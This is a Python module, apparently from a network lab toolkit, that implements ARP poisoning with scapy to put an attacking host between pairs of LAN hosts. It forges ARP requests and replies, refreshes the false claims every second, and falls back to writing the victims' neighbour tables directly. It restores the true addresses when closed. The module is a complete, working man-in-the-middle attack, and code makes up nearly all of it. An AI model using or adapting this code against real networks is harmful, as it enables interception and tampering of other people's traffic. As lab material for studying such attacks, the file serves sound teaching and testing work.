"""Getting on the path of a LAN: ARP poisoning (RFC 826), which is undone on leaving.

ARP does not authenticate: a host believes any claim "I have this address". So the attacker claims to each victim that
the other one's address is at its own MAC address, and the switch delivers to it. Where packet sockets are refused no
ARP packet can be sent; the victims' neighbour tables are then written directly, with the same effect on the path. What
the attacker does with the frames that come then does not belong here.
"""

import os
import select
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from labkit.errors import LabError

ARP_FRAMES = 0x0806
"""ETH_P_ARP of <linux/if_ether.h>."""
_BROADCAST = "ff:ff:ff:ff:ff:ff"
_AGAIN = 1.0
"""Seconds after which the false claims are sent again; a victim asks by itself when an entry is 30 s old."""
_PATIENCE = 3.0
"""Seconds for all victims to answer; they take less than a millisecond."""
_RETRY = 0.3
_LARGEST = 2048

Ends = tuple[str, str]
"""Two IP addresses."""
NamedAddress = tuple[str, str]
"""The name and the IP address of a host."""


class Poisoning:
    """Puts the host with the MAC address `mac` between pairs of hosts, from construction to `close`.

    `sock` is a packet socket for ARP on the attacker's interface, and is closed with the poisoning; `ip` is the
    attacker's own address, and `pairs` are the IP addresses of the hosts whose frames are to pass it. Raises
    `LabError` when a host does not answer.
    """

    how = "The other hosts are deceived with ARP (ARP poisoning)."

    def __init__(self, sock: socket.socket, ip: str, mac: str, pairs: list[Ends]) -> None:
        self._socket = sock
        self._mac = mac
        self._pairs = [*pairs, *((other, one) for one, other in pairs)]
        """(the host that is deceived, the address that the false claim is about)."""
        self._maker = os.getpid()
        self._alarm, self._bell = socket.socketpair()
        self._thread = threading.Thread(target=self._run, name="labkit arp", daemon=True)
        try:
            self._real = self._until_answered({victim: self._question(ip, victim) for victim, _ in self._pairs})
            self._until_answered({victim: self._claim(victim, about, mac) for victim, about in self._pairs})
            self._thread.start()
        except BaseException:
            self._close_sockets()
            raise

    def close(self) -> None:
        """Stop, and send the true addresses. A second call does nothing; nor does one in a forked process."""
        if self._bell.fileno() < 0 or os.getpid() != self._maker:
            return
        self._bell.send(b".")
        if threading.current_thread() is not self._thread:  # the garbage collector may close a lab in this thread
            self._thread.join(_PATIENCE)
        with suppress(OSError):  # the LAN may be gone
            for victim, about in self._pairs:
                self._socket.send(self._claim(victim, about, self._real[about]))
        self._close_sockets()

    def _close_sockets(self) -> None:
        for sock in (self._socket, self._alarm, self._bell):
            sock.close()

    def _question(self, ip: str, victim: str) -> bytes:
        """The request "who has the victim's address?", as any host sends it."""
        return _request(self._mac, _BROADCAST, self._mac, ip, victim)

    def _claim_all(self) -> None:
        for victim, about in self._pairs:
            self._socket.send(self._claim(victim, about, self._mac))

    def _claim(self, victim: str, about: str, mac: str) -> bytes:
        """A request to the victim whose sender fields claim that the address `about` is at `mac`.

        A receiver merges the sender's addresses of any request into its table (RFC 826, "Packet Reception"); Linux
        believes a request at once, but not an unsolicited reply. The source of the frame is the attacker's MAC
        address even when the claim is true, or the switch would learn that the other host is at this port.
        """
        return _request(self._mac, self._real[victim], mac, about, victim)

    def _answer(self, victim: str, about: str) -> bytes:
        """The false reply to a victim that asks for the address `about`.

        A victim whose connection was silent asks the MAC address that it has, three times (RFC 1122 §2.3.2.1). A
        request does not confirm that entry; without a reply the victim asks all hosts, and the true one answers.
        """
        from scapy.layers.l2 import ARP, Ether

        real = self._real[victim]
        reply = ARP(op="is-at", hwsrc=self._mac, psrc=about, hwdst=real, pdst=victim)
        return bytes(Ether(src=self._mac, dst=real) / reply)

    def _until_answered(self, questions: dict[str, bytes]) -> dict[str, str]:
        """Send the requests until each host has answered: IP address -> the MAC address in its reply."""
        answers: dict[str, str] = {}
        deadline = time.monotonic() + _PATIENCE
        while missing := questions.keys() - answers.keys():
            if time.monotonic() > deadline:
                raise LabError(f"{', '.join(sorted(missing))} did not answer the ARP request within {_PATIENCE:g} s.")
            for ip in missing:
                self._socket.send(questions[ip])
            while missing - answers.keys() and select.select([self._socket], [], [], _RETRY)[0]:
                answers |= {ip: mac for operation, mac, ip, _ in self._received() if operation == "is-at"}
        return answers

    def _run(self) -> None:
        """Repeat the false claims when a victim has sent a request, since the reply was true, and every second."""
        with suppress(OSError, ValueError):  # the LAN may be gone, or the sockets closed
            while True:
                ready, _, _ = select.select([self._socket, self._alarm], [], [], _AGAIN)
                if self._alarm in ready:
                    return
                asked = [(ip, about) for operation, _, ip, about in self._received() if operation == "who-has"]
                for victim, about in set(asked).intersection(self._pairs):
                    self._socket.send(self._answer(victim, about))
                if asked or not ready:
                    self._claim_all()

    def _received(self) -> Iterator[tuple[str, str, str, str]]:
        """(operation, MAC and IP address of the sender, IP address of the target) of each ARP packet that other hosts
        have sent since the last call.
        """
        from scapy.layers.l2 import ARP, Ether

        with suppress(BlockingIOError):
            while True:
                packet = Ether(self._socket.recv(_LARGEST, socket.MSG_DONTWAIT))
                if ARP in packet and packet[ARP].hwsrc != self._mac:
                    yield packet.sprintf("%ARP.op%"), packet[ARP].hwsrc, packet[ARP].psrc, packet[ARP].pdst


class NeighbourEntries:
    """The same without ARP packets: permanent entries in the neighbour tables of the victims, until `close`.

    `write` takes a host, an IP address and a MAC address, or none to remove the entry; `pairs` are the names and IP
    addresses of the hosts. Raises what `write` raises.
    """

    how = (
        "The neighbour tables of the other hosts are written directly, because packet sockets are refused here and "
        "ARP poisoning needs one."
    )

    def __init__(
        self, write: Callable[[str, str, str], object], mac: str, pairs: "list[tuple[NamedAddress, NamedAddress]]"
    ) -> None:
        self._write = write
        self._maker = os.getpid()
        self._entries = [
            (victim, ip) for one, other in pairs for victim, ip in ((one[0], other[1]), (other[0], one[1]))
        ]
        try:
            for victim, ip in self._entries:
                write(victim, ip, mac)
        except BaseException:
            self.close()
            raise

    def close(self) -> None:
        """Remove the entries, so that the hosts ask with ARP again. A second call does nothing."""
        while self._entries and os.getpid() == self._maker:
            with suppress(OSError, LabError):  # the LAN may be gone
                self._write(*self._entries.pop(), "")


def _request(source: str, target: str, mac: str, ip: str, wanted: str) -> bytes:
    """The frame of an ARP request from `source` to `target`, in which `mac` has `ip` and asks who has `wanted`."""
    from scapy.layers.l2 import ARP, Ether

    return bytes(Ether(src=source, dst=target) / ARP(op="who-has", hwsrc=mac, psrc=ip, pdst=wanted))
